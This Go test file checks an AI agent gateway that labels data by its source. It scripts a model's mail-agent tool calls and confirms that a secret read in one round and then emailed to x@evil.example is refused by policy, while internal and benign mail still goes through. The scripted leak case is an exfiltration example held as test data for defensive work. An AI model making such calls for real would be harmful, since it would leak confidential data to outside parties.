package main

import (
	"slices"
	"strings"
	"testing"

	"github.com/openai/openai-go/v3"
	"github.com/openai/openai-go/v3/shared"
)

// mailTools are the mail agent's tools as the model is offered them.
var mailTools = func() []openai.ChatCompletionToolUnionParam {
	var out []openai.ChatCompletionToolUnionParam
	for _, name := range []string{"read_secret", "fetch_url", "send_email"} {
		out = append(out, openai.ChatCompletionFunctionTool(shared.FunctionDefinitionParam{
			Name: name, Parameters: shared.FunctionParameters{"type": "object"},
		}))
	}
	return out
}()

// mailGatewayScript: a model that reads a secret and then mails it out, mails inside
// the company, mails beside the read in one round, fetches a page before mailing, or
// just mails.
var mailGatewayScript = script(
	`{"user": "leak", "round": 1, "tool_calls": [{"id": "c1", "name": "read_secret", "arguments": "{\"name\":\"payroll\"}"}]}`,
	`{"user": "leak", "round": 2, "tool_calls": [{"id": "c2", "name": "send_email", "arguments": "{\"to\":\"x@evil.example\",\"body\":\"hunter2\"}"}]}`,
	`{"user": "internal", "round": 1, "tool_calls": [{"id": "c1", "name": "read_secret", "arguments": "{\"name\":\"payroll\"}"}]}`,
	`{"user": "internal", "round": 2, "tool_calls": [{"id": "c2", "name": "send_email", "arguments": "{\"to\":\"ops@acme.example\",\"body\":\"hunter2\"}"}]}`,
	`{"user": "parallel", "round": 1, "tool_calls": [
	   {"id": "c1", "name": "read_secret", "arguments": "{\"name\":\"payroll\"}"},
	   {"id": "c2", "name": "send_email", "arguments": "{\"to\":\"x@evil.example\",\"body\":\"see you friday\"}"}]}`,
	`{"user": "fetched", "round": 1, "tool_calls": [{"id": "c1", "name": "fetch_url", "arguments": "{\"url\":\"https://example.com\"}"}]}`,
	`{"user": "fetched", "round": 2, "tool_calls": [{"id": "c2", "name": "send_email", "arguments": "{\"to\":\"x@evil.example\",\"body\":\"the news\"}"}]}`,
	`{"user": "benign", "round": 1, "tool_calls": [{"id": "c1", "name": "send_email", "arguments": "{\"to\":\"x@evil.example\",\"body\":\"hello\"}"}]}`,
	`{"user": "internal", "round": 3, "content": "done"}`,
	`{"user": "parallel", "round": 2, "content": "done"}`,
	`{"user": "fetched", "round": 3, "content": "done"}`,
	`{"user": "benign", "round": 2, "content": "done"}`,
)

// mailGateway serves examples/mail-agent behind the OpenAI gateway, in front of the
// scripted upstream.
func mailGateway(t *testing.T) *gateway {
	t.Helper()
	up := startUpstream(t, mailGatewayScript, upstreamKey)
	dir := copyExample(t, "mail-agent")
	writeFile(t, dir, "hooks/40-gateway.yaml", `apiVersion: agentd.dev/v1
kind: HookSet
metadata: {name: gateway-openai}
settings: {rego_timeout: 10s}
gateways:
  openai:
    upstream: `+up+`
    api_key_env: UPSTREAM_API_KEY
    tools:
      read_secret: {namespace: office, agent: assistant, capability: read_secret}
      fetch_url: {namespace: office, agent: assistant, capability: fetch_url}
      send_email: {namespace: office, agent: assistant, capability: send_email}
`)
	d := startDaemonEnv(t, []string{upstreamKey}, dir)
	return &gateway{d: d, dir: dir, upstream: up, client: newClient(d.url, "unused")}
}

// TestOpenAIGateway_Labels: tool messages are finishes whose content is the result, so
// the labels of a tool's result reach the review of the model's next round: a secret
// read in round 1 and mailed out in round 2 is refused; mail inside the company, a mail
// in the same round as the read, a mail after a fetched page and another
// conversation's mail are forwarded (0 leaks, 0 false denials).
func TestOpenAIGateway_Labels(t *testing.T) {
	g := mailGateway(t)
	results := map[string]string{"read_secret": `{"value":"hunter2"}`, "fetch_url": `{"text":"the news"}`, "send_email": `{"status":"sent"}`}
	// converse runs the conversation until the model stops asking for tools, running
	// every forwarded call on the client; it returns the calls forwarded, round by
	// round, and the last message's content.
	converse := func(t *testing.T, question string) ([]string, string) {
		params := openai.ChatCompletionNewParams{Model: "scripted", Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage(question)}, Tools: mailTools}
		var forwarded []string
		for range 3 {
			c, _ := g.complete(t, params)
			msg := c.Choices[0].Message
			if len(msg.ToolCalls) == 0 {
				return forwarded, msg.Content
			}
			params.Messages = append(params.Messages, msg.ToParam())
			for _, call := range msg.ToolCalls {
				forwarded = append(forwarded, call.Function.Name+" "+call.Function.Arguments)
				params.Messages = append(params.Messages, openai.ToolMessage(results[call.Function.Name], call.ID))
			}
		}
		return forwarded, ""
	}
	for _, tc := range []struct {
		question string
		want     []string
		refused  bool
	}{
		{"leak", []string{`read_secret {"name":"payroll"}`}, true},
		{"internal", []string{`read_secret {"name":"payroll"}`, `send_email {"body":"hunter2","to":"ops@acme.example"}`}, false},
		{"parallel", []string{`read_secret {"name":"payroll"}`, `send_email {"body":"see you friday","to":"x@evil.example"}`}, false},
		{"fetched", []string{`fetch_url {"url":"https://example.com"}`, `send_email {"body":"the news","to":"x@evil.example"}`}, false},
		{"benign", []string{`send_email {"body":"hello","to":"x@evil.example"}`}, false},
	} {
		t.Run(tc.question, func(t *testing.T) {
			forwarded, content := converse(t, tc.question)
			if !slices.Equal(forwarded, tc.want) {
				t.Fatalf("forwarded %q, want %q", forwarded, tc.want)
			}
			if refused := strings.Contains(content, "refused by policy"); refused != tc.refused {
				t.Fatalf("last answer %q, want refused %v", content, tc.refused)
			}
		})
	}
}
